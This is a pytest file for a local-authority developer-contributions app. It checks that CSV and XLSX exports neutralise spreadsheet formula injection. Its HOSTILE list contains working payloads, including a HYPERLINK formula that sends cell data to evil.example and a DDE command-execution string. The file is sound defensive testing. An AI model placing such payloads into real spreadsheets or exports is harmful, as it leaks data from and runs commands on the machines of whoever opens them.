"""Nothing a user typed or a council published reaches a spreadsheet as a formula; numbers stay numbers."""

import csv
import io
import re
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from app import spreadsheets
from app.models import LocalAuthority
from tests.builders import agreement, contribution, movement
from tests.standard_helpers import give_organisation_codes

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tx", "\rx"]


def formula_cells(content: bytes) -> list[str]:
    """Every cell of a workbook that a spreadsheet would evaluate."""
    workbook = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


class TestTheWriters:
    """The one CSV writer neutralises text that would start a formula; the XLSX writer stores it as text."""

    @pytest.mark.parametrize("text", HOSTILE)
    def test_csv_prefixes_a_quote(self, text: str) -> None:
        [[cell]] = list(csv.reader(io.StringIO(spreadsheets.to_csv([[text]]), newline="")))
        assert cell == "'" + text.replace("\r", "\n")

    def test_csv_keeps_numbers_and_plain_text(self) -> None:
        written = spreadsheets.to_csv([[Decimal("-250.00"), 3, "Blaby", None]])
        assert written == "-250.00,3,Blaby,\n"

    def test_xlsx_text_is_never_a_formula_and_numbers_stay_numbers(self) -> None:
        sheet = spreadsheets.Sheet(title="t", rows=[[*HOSTILE, Decimal("-2.50")]])
        content = spreadsheets.to_xlsx([sheet])
        assert formula_cells(content) == []
        cells = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))[0]
        assert [str(cell).replace("\n", "\r") for cell in cells[: len(HOSTILE)]] == ["'" + text for text in HOSTILE]
        assert cells[-1] == -2.5


@pytest.fixture
def hostile(api: Any, session: Session) -> Any:
    """An agreement whose site, developer, reference and authority name would start formulas, with money received."""
    give_organisation_codes(session)
    authority = session.get(LocalAuthority, "blaby")
    assert authority is not None
    authority.name = HOSTILE[0]
    session.commit()
    deed = agreement(api, site=HOSTILE[0], developer=HOSTILE[1], reference="@19/0001/OUT")
    made = contribution(api, deed["id"], amount="1000.00", trigger_type="on_signing")
    assert movement(api, made["id"], "received", "500.00", "2020-06-01").status_code == 201
    return api


class TestExports:
    """The Panel table and the data-standard export, as CSV and XLSX, through HTTP."""

    def test_panel_csv_neutralises_the_authority_name(self, hostile: Any) -> None:
        response = hostile.get("/reports/panel", params={"layout": "2024", "format": "csv"})
        assert response.status_code == 200
        labels = [row[0] for row in csv.reader(io.StringIO(response.text))]
        assert "'" + HOSTILE[0] in labels
        assert HOSTILE[0] not in labels

    def test_panel_workbook_has_no_formula_but_its_own_totals(self, hostile: Any) -> None:
        response = hostile.get("/reports/panel", params={"layout": "2024", "format": "xlsx"})
        assert response.status_code == 200
        # The only formulas are the service's own: the Total row's SUM of the rows above it.
        total_row = load_workbook(io.BytesIO(response.content)).active.max_row
        for cell in formula_cells(response.content):
            assert re.fullmatch(rf"Panel 2024![B-Z]{total_row}='=SUM\([B-Z]5:[B-Z]{total_row - 1}\)'", cell), cell
        values = [
            cell
            for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
            for cell in row
        ]
        assert "'" + HOSTILE[0] in values
        assert any(isinstance(value, int | float) and value == 500 for value in values)

    @pytest.mark.parametrize("export_format", ["csv", "xlsx"])
    def test_data_standard_export(self, hostile: Any, export_format: str) -> None:
        response = hostile.get(
            "/exports/developer-contributions",
            params={"dataset": "developer-agreement", "format": export_format},
        )
        assert response.status_code == 200, response.text
        if export_format == "xlsx":
            assert formula_cells(response.content) == []
            return
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert rows, response.text
        text = response.text
        for value in ("@19/0001/OUT", HOSTILE[0]):
            assert "'" + value in text or "'" + value.replace('"', '""') in text
